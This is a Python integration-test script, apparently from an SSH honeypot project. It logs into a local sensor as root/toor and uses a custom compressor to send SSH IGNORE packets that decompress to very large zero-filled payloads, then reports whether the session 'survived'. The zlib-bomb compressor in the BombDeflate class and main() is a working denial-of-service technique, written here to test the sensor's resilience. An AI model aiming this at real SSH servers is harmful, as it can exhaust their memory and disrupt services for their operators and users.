"""An attacker's SSH client that sends zlib bombs once logged in (run as a subprocess).

``python -m tests.integration.zlib_bomb PORT SIZE COUNT``: logs into the sensor as
root/toor with ``zlib@openssh.com``, then sends COUNT SSH_MSG_IGNORE packets that each
inflate to SIZE bytes (deflated as a stream, so this process never holds them), then
checks whether its session still works. Prints ``survived`` or ``disconnected``. It runs
in a process of its own so that the test's process (the sensor's) measures only the
sensor's memory.
"""

from __future__ import annotations

import asyncio
import sys
import zlib

import asyncssh
from asyncssh.compression import Compressor, Decompressor, register_compression_alg

MARK = b"\x00BOMB\x00"
CHUNK = bytes(1 << 20)
MSG_IGNORE = 2


class BombDeflate(Compressor):
    """Deflates packets as OpenSSH does, except that a packet carrying MARK becomes a bomb."""

    size = 0

    def __init__(self) -> None:
        self._zlib = zlib.compressobj(9)

    def compress(self, data: bytes) -> bytes | None:
        """The packet, or an IGNORE packet of ``size`` zero bytes in its place."""
        if MARK not in data:
            return self._zlib.compress(data) + self._zlib.flush(zlib.Z_SYNC_FLUSH)
        out = [self._zlib.compress(bytes([MSG_IGNORE]) + self.size.to_bytes(4, "big"))]
        left = self.size
        while left:
            out.append(self._zlib.compress(CHUNK[: min(left, len(CHUNK))]))
            left -= min(left, len(CHUNK))
        out.append(self._zlib.flush(zlib.Z_SYNC_FLUSH))
        return b"".join(out)


class Inflate(Decompressor):
    """Plain inflation (the sensor is not the one attacking)."""

    def __init__(self) -> None:
        self._zlib = zlib.decompressobj()

    def decompress(self, data: bytes) -> bytes | None:
        """Inflate."""
        return self._zlib.decompress(data)


async def main(port: int, size: int, count: int) -> str:
    """Bomb the sensor; whether the session survived."""
    BombDeflate.size = size
    register_compression_alg(b"zlib@openssh.com", BombDeflate, Inflate, True, True)
    async with asyncio.timeout(120):
        conn = await asyncssh.connect(
            "127.0.0.1", port, username="root", password="toor", known_hosts=None,
            client_keys=None, agent_path=None, preferred_auth="password",
            compression_algs=["zlib@openssh.com"],
        )  # fmt: skip
        try:
            process = await conn.create_process("cat", encoding=None)
            for _ in range(count):
                process.stdin.write(MARK)
            process.stdin.write(b"still here\n")
            line = await process.stdout.readline()
        except (asyncssh.Error, OSError):
            return "disconnected"
        finally:
            conn.close()
    return "survived" if line == b"still here\n" else "disconnected"


if __name__ == "__main__":
    port, size, count = map(int, sys.argv[1:4])
    sys.stdout.write(asyncio.run(main(port, size, count)) + "\n")
